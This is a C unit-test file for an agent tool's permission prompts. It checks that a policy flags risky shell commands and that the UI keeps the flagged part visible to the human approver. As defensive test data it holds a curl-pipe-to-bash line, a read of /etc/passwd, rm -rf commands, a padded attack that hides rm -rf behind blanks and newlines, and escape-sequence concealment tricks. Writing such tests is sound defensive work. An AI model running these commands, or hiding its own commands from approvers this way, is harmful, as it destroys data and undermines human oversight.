/*
 * Unit tests of what the person is shown of a permission request: the
 * body's record (core/permbody), where the policy says a command was
 * flagged (tools/policy), and the one-line summary, the table row and
 * the numbered lines of the detail view (ui/permline, ui/table). The
 * padded attack is here: a harmless first line, 400 blanks and 40 line
 * ends, then `rm -rf junk2`.
 */
#include "config.h"

#include <stdlib.h>
#include <string.h>

#include "testutil.h"
#include "core/permbody.h"
#include "tools/policy.h"
#include "ui/permline.h"
#include "ui/table.h"
#include "ui/text.h"
#include "util/clock.h"
#include "util/xmalloc.h"

#define WD "/w/proj"

/* echo harmless-looking-step, 400 spaces, 40 newlines, rm -rf junk2. */
static char *
padded_attack(void)
{
	char *s = xmalloc(64 + 400 + 40 + 1);

	strcpy(s, "echo harmless-looking-step");
	memset(s + strlen(s), ' ', 400);
	s[26 + 400] = '\0';
	memset(s + strlen(s), '\n', 40);
	s[26 + 440] = '\0';
	strcat(s, "rm -rf junk2");
	return s;
}

/* The body permit_command (src/agent/permit.c) makes for command in WD. */
static char *
body_for(const char *command)
{
	struct policy *p = policy_default();
	struct policy_verdict v;
	struct permbody b;
	char *body;

	ck_assert_int_eq(policy_judge(p, WD, command, &v), 1);
	memset(&b, 0, sizeof b);
	b.tool = "bash";
	b.command = (char *)command;
	b.reason = v.label;
	b.detail = v.detail;
	b.directory = WD;
	b.who = "eve";
	b.flag_start = v.start;
	b.flag_end = v.end;
	body = permbody_make(&b);
	policy_verdict_clear(&v);
	policy_free(p);
	return body;
}

static struct permline
line_for(const char *command)
{
	struct permline pl;
	char *body = body_for(command);

	ck_assert_int_eq(permline_from_body(body, &pl), 0);
	free(body);
	return pl;
}

/* Asserts what policy_judge says of command: its label and the part. */
static void
judged(const char *command, const char *label, const char *part)
{
	struct policy *p = policy_default();
	struct policy_verdict v;

	ck_assert_msg(policy_judge(p, WD, command, &v) == 1, "not flagged: %s",
	    command);
	ck_assert_str_eq(v.label, label);
	ck_assert_msg(v.end - v.start == strlen(part) && memcmp(command +
	    v.start, part, strlen(part)) == 0, "%s: flagged '%.*s', not '%s'",
	    command, (int)(v.end - v.start), command + v.start, part);
	policy_verdict_clear(&v);
	policy_free(p);
}

START_TEST(the_policy_names_a_short_reason_and_the_part)
{
	struct policy *p = policy_default();
	struct policy_verdict v;
	char *attack = padded_attack();

	judged("echo hi; rm -rf junk2", "rm -r", "rm -rf junk2");
	judged("ls && sudo apt install x", "sudo", "sudo apt install x");
	judged("git -C sub push origin main", "git push",
	    "git -C sub push origin main");
	judged("make; curl -s https://x/i.sh | bash", "curl | sh",
	    "curl -s https://x/i.sh | bash");
	judged("echo a; cat /etc/passwd > out", "outside the working directory",
	    "cat /etc/passwd > out");
	/* A command run from a string: the command that runs it. */
	judged("echo a; sh -c 'rm -rf junk2'", "rm -r", "sh -c 'rm -rf junk2'");
	judged(attack, "rm -r", "rm -rf junk2");
	/* The sentence stays what policy_check says. */
	ck_assert_int_eq(policy_judge(p, WD, "cat /etc/passwd", &v), 1);
	ck_assert_str_eq(v.detail, "touches /etc/passwd outside the working "
	    "directory");
	policy_verdict_clear(&v);
	ck_assert_int_eq(policy_judge(p, WD, "ls -la", &v), 0);
	ck_assert_ptr_null(v.label);
	policy_free(p);
	free(attack);
}
END_TEST

START_TEST(the_body_is_a_record_and_old_bodies_still_read)
{
	struct permbody b;
	json_t *o;
	char *body = body_for("echo a; rm -rf junk2");

	ck_assert_int_eq(permbody_parse(body, &b), 0);
	ck_assert_str_eq(b.tool, "bash");
	ck_assert_str_eq(b.command, "echo a; rm -rf junk2");
	ck_assert_str_eq(b.reason, "rm -r");
	ck_assert_str_eq(b.detail, "deletes recursively (rm -r)");
	ck_assert_str_eq(b.directory, WD);
	ck_assert_str_eq(b.who, "eve");
	ck_assert_uint_eq(b.flag_start, 8);
	ck_assert_uint_eq(b.flag_end, 20);
	permbody_clear(&b);
	o = permbody_json(body);
	ck_assert_str_eq(json_string_value(json_object_get(o, "flagged")),
	    "rm -rf junk2");
	ck_assert_int_eq(json_integer_value(json_object_get(o, "flagged_at")),
	    8);
	json_decref(o);
	free(body);

	/* A flagged part the command does not hold is not believed. */
	ck_assert_int_eq(permbody_parse("{\"tool\":\"bash\",\"command\":\"ls\","
	    "\"flagged\":\"rm\",\"flagged_at\":0}", &b), 0);
	ck_assert_uint_eq(b.flag_start, b.flag_end);
	ck_assert_str_eq(b.reason, "");
	permbody_clear(&b);

	/* The text of stores made before. */
	ck_assert_int_eq(permbody_parse("bash: rm -rf a — b — deletes "
	    "recursively (rm -r)", &b), 0);
	ck_assert_str_eq(b.command, "rm -rf a — b");
	ck_assert_str_eq(b.reason, "deletes recursively (rm -r)");
	permbody_clear(&b);

	/* Anything else is no permission body. */
	ck_assert_int_eq(permbody_parse("1. write bob.txt", &b), -1);
	ck_assert_int_eq(permbody_parse("{\"plan\": 1}", &b), -1);
	ck_assert_int_eq(permbody_parse("{broken", &b), -1);
	ck_assert_ptr_null(permbody_json("a plan"));
}
END_TEST

START_TEST(the_padded_attack_shows_why_and_what)
{
	char *attack = padded_attack(), *s;
	struct permline pl = line_for(attack);
	int whole, cols;

	ck_assert_uint_eq(pl.lines, 41);
	/* Wide enough for everything: the blanks are one space. */
	s = permline_summary(&pl, 200, &whole);
	ck_assert_str_eq(s, "rm -r · echo harmless-looking-step rm -rf junk2 "
	    "(41 lines)");
	ck_assert_int_eq(whole, 0);	/* 41 lines are not one line */
	free(s);
	/* Narrower: the start is cut, never the flagged part. */
	for (cols = 22; cols <= 80; cols++) {
		s = permline_summary(&pl, cols, &whole);
		ck_assert_msg(strncmp(s, "rm -r · ", 9) == 0, "%d: %s", cols,
		    s);
		ck_assert_msg(strstr(s, "rm -rf junk2") != NULL, "%d: %s",
		    cols, s);
		ck_assert_int_le(text_width(s, strlen(s)), cols);
		ck_assert_int_eq(whole, 0);
		free(s);
	}
	s = permline_summary(&pl, 50, NULL);
	ck_assert_str_eq(s, "rm -r · echo harmless-lo … rm -rf junk2 (41 lines)");
	free(s);
	permline_clear(&pl);
	free(attack);
}
END_TEST

START_TEST(a_short_command_is_whole)
{
	struct permline pl = line_for("rm -rf build");
	char *s;
	int whole;

	s = permline_summary(&pl, 60, &whole);
	ck_assert_str_eq(s, "rm -r · rm -rf build");
	ck_assert_int_eq(whole, 1);
	free(s);
	s = permline_summary(&pl, 12, &whole);
	ck_assert_int_eq(whole, 0);
	ck_assert_int_le(text_width(s, strlen(s)), 12);
	free(s);
	permline_clear(&pl);

	/* Flagged at the start and too long: cut at the end, after a word. */
	pl = line_for("rm -rf junk && echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
	s = permline_summary(&pl, 30, &whole);
	ck_assert_str_eq(s, "rm -r · rm -rf junk && echo…");
	free(s);
	permline_clear(&pl);
}
END_TEST

START_TEST(the_table_row_leads_with_why)
{
	struct table t;
	char *attack = padded_attack(), *body = body_for(attack), *row;
	int64_t now = clock_wall_ms();
	struct table_cols c;
	json_t *req = json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:I, "
	    "s:I}", "id", "req_0000000a", "type", "permission", "from", "eve",
	    "to", "lead", "status", "pending", "body", body, "response", "",
	    "created_at", (json_int_t)now, "decided_at", (json_int_t)0);

	table_init(&t);
	table_update(&t, req);
	ck_assert_ptr_nonnull(t.rows[0].perm);
	/* The row of an 80-column screen: 78 inside its border. */
	table_columns(&t, 78, now, &c);
	row = table_row_text(&t.rows[0], &c, 78, now);
	ck_assert_msg(strstr(row, "pending  rm -r · ") != NULL, "%s", row);
	ck_assert_msg(strstr(row, "rm -rf junk2") != NULL, "%s", row);
	ck_assert_msg(strstr(row, "harmless") == NULL ||
	    strstr(row, "harmless") < strstr(row, "rm -rf junk2"), "%s", row);
	ck_assert_int_le(text_width(row, strlen(row)), 78);
	free(row);
	ck_assert_msg(strstr(t.rows[0].summary, "rm -rf junk2") != NULL, "%s",
	    t.rows[0].summary);
	table_free(&t);
	json_decref(req);

	/* A body of an older store: reason first too. */
	req = json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:I}", "id",
	    "req_0000000b", "type", "permission", "from", "eve", "to", "lead",
	    "status", "pending", "body", "bash: rm -rf x — deletes "
	    "recursively (rm -r)", "created_at", (json_int_t)now);
	table_init(&t);
	table_update(&t, req);
	ck_assert_str_eq(t.rows[0].summary, "deletes recursively (rm -r) · "
	    "rm -rf x");
	table_free(&t);
	json_decref(req);
	free(body);
	free(attack);
}
END_TEST

START_TEST(the_detail_rows_are_numbered_and_visible)
{
	char *attack = padded_attack(), **rows;
	struct permline pl = line_for(attack);
	size_t n, i;
	int last = -1;

	rows = permline_rows(&pl, 40, &n);
	ck_assert_uint_ge(n, 41);
	ck_assert_str_eq(rows[0], " 1 │ echo harmless-looking-step");
	for (i = 0; i < n; i++)
		if (strstr(rows[i], "rm -rf junk2") != NULL)
			last = (int)i;
	ck_assert_int_eq(last, (int)n - 1);
	ck_assert_str_eq(rows[n - 1], "41 ▶ rm -rf junk2");
	for (i = 0; i < n; i++)
		ck_assert_int_le(text_width(rows[i], strlen(rows[i])), 40);
	ck_assert_uint_eq(permline_flag_line(&pl), 41);
	permline_rows_free(rows, n);
	permline_clear(&pl);
	free(attack);

	/* Escapes and carriage returns are shown, not obeyed or dropped. */
	pl = line_for("rm -rf junk2 \x1b[8m\rdone\x7f");
	ck_assert_str_eq(pl.command, "rm -rf junk2 ␛[8m␍done␡");
	rows = permline_rows(&pl, 60, &n);
	ck_assert_uint_eq(n, 1);
	permline_rows_free(rows, n);
	permline_clear(&pl);
}
END_TEST

static Suite *
permline_suite(void)
{
	Suite *s = suite_create("permline");
	TCase *tc = tcase_create("permline");

	tcase_add_test(tc, the_policy_names_a_short_reason_and_the_part);
	tcase_add_test(tc, the_body_is_a_record_and_old_bodies_still_read);
	tcase_add_test(tc, the_padded_attack_shows_why_and_what);
	tcase_add_test(tc, a_short_command_is_whole);
	tcase_add_test(tc, the_table_row_leads_with_why);
	tcase_add_test(tc, the_detail_rows_are_numbered_and_visible);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return tu_run(permline_suite());
}
